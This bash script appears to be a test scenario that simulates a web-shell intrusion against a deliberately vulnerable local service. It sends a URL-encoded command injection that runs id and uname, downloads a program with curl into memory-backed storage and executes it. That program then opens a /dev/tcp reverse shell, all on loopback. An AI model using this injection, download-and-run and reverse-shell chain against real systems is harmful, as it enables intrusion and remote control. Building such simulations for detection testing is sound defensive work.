#!/usr/bin/env bash
# A web shell: a service on loopback with a command injection starts a shell, which looks around, downloads
# a program, runs it from memory-backed storage, and that one opens a reverse shell to a loopback listener.
# Needs: bash, perl (perl-base), curl, coreutils. No root. Runs in about 3 s.
. "$(dirname "${BASH_SOURCE[0]}")/lib/common.sh"
need perl curl

mkdir "$root/far"
cp "$(command -v bash)" "$root/far/tool"
far_side
word=$(tr -dc a-z </dev/urandom | head -c 12 || true)
say "a small web service starts"
perl "$here/weak-service.pl" "$root/port" "$word" &
service=$!
helpers+=("$service")
note service "$service" "web service with a command injection"
until_file "$root/port" 50
port=$(cat "$root/port")

# What the visitor sends. Each step writes its own pid before it becomes the program.
cat >"$root/cmd" <<CMD
x; printf 'shell\t%s\tshell started by the service\n' \$\$ >>$STEPS
(printf 'whoami\t%s\taccount looked up\n' \$(exec sh -c 'echo \$PPID') >>$STEPS; exec id)
sh -c 'printf "uname\t%s\tsystem looked up\n" \$\$ >>$STEPS; exec uname -a'
sh -c 'printf "download\t%s\tprogram downloaded\n" \$\$ >>$STEPS; exec curl -s -o $shm/tool http://127.0.0.1:$web/tool'
chmod 755 $shm/tool
$shm/tool -c 'printf "payload\t%s\tprogram run from memory-backed storage\n" \$\$ >>$STEPS; exec 3<>/dev/tcp/127.0.0.1/$shell; sh -c "printf \"reverse shell\t%s\tshell on a connection\n\" \\\$\\\$ >>$STEPS; exec sh -s" <&3 >&3 2>&3; exit 0'
CMD
say "a visitor sends commands in a size"
query=$(perl -e 'local $/; $_ = <STDIN>; s/([^A-Za-z0-9])/sprintf "%%%02X", ord $1/ge; print' <"$root/cmd")
curl -s -m 20 "http://127.0.0.1:$port/thumb/$word?size=$query" >"$root/answer"
say "the reverse shell has closed"
grep -q 'reverse shell' "$STEPS"
